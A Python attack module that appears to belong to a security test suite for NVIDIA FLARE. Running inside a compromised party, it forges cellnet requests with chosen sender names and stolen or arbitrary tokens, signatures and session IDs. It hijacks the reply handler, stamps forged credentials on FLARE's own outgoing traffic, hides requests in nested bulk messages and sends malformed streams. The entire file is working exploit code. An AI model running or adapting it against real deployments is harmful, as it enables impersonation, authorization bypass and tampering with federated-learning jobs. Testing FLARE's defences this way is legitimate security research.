"""Raw cellnet messages from an altered party: any header, any sender's name, any token.

Runs inside the altered party's own FLARE process, below its filters. FLARE's `send_request` would
add the true sender and the party's current token; here the attacker chooses both.
"""

import contextlib
import threading
import time
import uuid
from concurrent.futures import ThreadPoolExecutor

from nvflare.fuel.f3.cellnet.core_cell import CoreCell
from nvflare.fuel.f3.cellnet.defs import CellChannel, MessageType
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey as Key
from nvflare.fuel.f3.cellnet.utils import decode_payload, encode_payload
from nvflare.fuel.f3.message import Message
from nvflare.fuel.f3.streaming.stream_const import StreamHeaderKey
from nvflare.private.defs import CellMessageHeaderKeys as Auth

WAIT_SECONDS = 5.0
SILENCE = {"error": "", "answer": "", "is_error": False}


class Wire:
    """Sends what it is told to over a cell, and hears the answers.

    Args:
        cell: the party's FLARE cell.
        tokens: by a word of the attacker's, what proves to the server who it is: client name,
            token, signature, session; none where nobody asks (a server, a job's port).
    """

    def __init__(self, cell, tokens):
        self.cell, self.core, self.tokens = cell, cell.core_cell, dict(tokens)
        self._waiting = {}
        self._hear = self.core._process_reply
        self.core._process_reply = self._listen
        self.core.add_outgoing_request_filter("*", "*", self._forge)
        self._forged = {}

    def name(self):
        """The attacker's name in the network."""
        return self.core.my_info.fqcn

    def send_all(self, messages):
        """Send many at once: how (`ask`, `stream`, `bulk`), words, options of each; the answers."""
        with ThreadPoolExecutor(len(messages)) as pool:
            sent = [pool.submit(getattr(self, how), *words, **options)
                    for how, words, options in messages]  # fmt: skip
            return [one.result() for one in sent]

    def ask(
        self, target, channel, topic, payload=None, *, origin=None, token="own", headers=None,
        timeout=WAIT_SECONDS, delay=0.0,
    ):  # fmt: skip
        """Send one request after a while; what came back, or a code None when nothing did.

        The answer to a request with a forged sender goes to whom it names, not here.
        """
        time.sleep(delay)
        message, number = Message(payload=payload), str(uuid.uuid4())
        mine = self.core.my_info.fqcn
        own = {
            Key.CHANNEL: channel,
            Key.TOPIC: topic,
            Key.FROM_CELL: mine,
            Key.ORIGIN: origin or mine,
            Key.DESTINATION: target,
            Key.MSG_TYPE: MessageType.REQ,
            Key.ROUTE: [(origin or mine, time.time())],
            Key.REQ_ID: number,
            Key.REPLY_EXPECTED: True,
        }
        message.add_headers({**own, **self._credentials(token), **(headers or {})})
        error, endpoint = self.core._find_endpoint(target, None)
        if endpoint is None:
            return {**SILENCE, "code": f"not sent: {error}"}
        message.set_header(Key.TO_CELL, endpoint.name)
        answered = self._waiting[number] = threading.Event()
        encode_payload(message, fobs_ctx=self.core.get_fobs_context())
        self.core.communicator.send(endpoint, CoreCell.APP_ID, message)
        answered.wait(timeout)
        reply = self._waiting.pop(number)
        if not isinstance(reply, Message):
            return {**SILENCE, "code": None}
        return {
            "code": reply.get_header(Key.RETURN_CODE),
            "error": str(reply.get_header(Key.ERROR, "")),
            "answer": _text(reply.payload),
            "is_error": _is_error(reply.payload),
        }

    def bulk(self, target, channel, topic, payload, *, depth=1):
        """Hide a request in FLARE's bulk message, or in one within one; there is no answer."""
        for _ in range(depth):
            message = Message(payload=payload)
            encode_payload(message, fobs_ctx=self.core.get_fobs_context())
            inner = {"headers": dict(message.headers), "payload": _joined(message.payload)}
            payload = [{"target": target, "channel": channel, "topic": topic, "message": inner}]
            channel, topic = CellChannel.CELLNET, "bulk"
        return self.ask(target, channel, topic, payload, timeout=1.0)

    def stream(self, target, channel, topic, payload, *, origin=None, token="own"):
        """Send a request as a stream: the true channel and topic are in headers of the stream."""
        with self.forging(target, origin, token):
            reply = self.cell._send_request(
                channel, target, topic, Message(payload=payload), timeout=WAIT_SECONDS
            )
        code = reply.get_header(Key.RETURN_CODE)
        return {
            "code": None if code == "timeout" else code,
            "error": str(reply.get_header(Key.ERROR, "")),
            "answer": _text(reply.payload),
            "is_error": _is_error(reply.payload),
        }

    def garble(self, target, channel, topic, payload):
        """Send a stream that says it holds an object and does not."""
        message = Message(headers={StreamHeaderKey.PAYLOAD_ENCODING: "fobs"}, payload=payload)
        future = self.cell.send_blob(channel, topic, target, message)
        with contextlib.suppress(Exception):
            future.result(WAIT_SECONDS)
        return {**SILENCE, "code": None}

    @contextlib.contextmanager
    def forging(self, target, origin=None, token="own"):
        """Whatever FLARE itself sends to a target meanwhile bears this sender and token."""
        sender = {Key.ORIGIN: origin} if origin else {}
        self._forged[target] = {**sender, **self._credentials(token)}
        try:
            yield
        finally:
            self._forged.pop(target)

    def _credentials(self, token):
        if self.tokens[token] is None:
            return {}
        name, word, signature, session = self.tokens[token]
        return {
            Auth.CLIENT_NAME: name,
            Auth.TOKEN: word,
            Auth.TOKEN_SIGNATURE: signature,
            Auth.SSID: session,
        }

    def _forge(self, message):
        message.add_headers(self._forged.get(message.get_header(Key.DESTINATION), {}))

    def _listen(self, origin, message, kind):
        numbers = message.get_header(Key.REQ_ID) or []
        mine = [n for n in [numbers] * isinstance(numbers, str) or numbers if n in self._waiting]
        if not mine:
            self._hear(origin, message, kind)
            return
        with contextlib.suppress(ValueError):  # some answers FLARE itself cannot read
            decode_payload(message)
        for number in mine:
            answered, self._waiting[number] = self._waiting[number], message
            answered.set()


def _joined(payload):
    return b"".join(payload) if isinstance(payload, list) else payload


def _text(payload):
    body = getattr(payload, "body", payload)
    return (body if isinstance(body, str) else repr(body))[:20_000]


def _is_error(payload):
    """FLARE answers an administrator's request that failed with code `ok` and this inside."""
    headers = getattr(payload, "headers", None) or {}
    return headers.get("_rtnCode") == "_error"
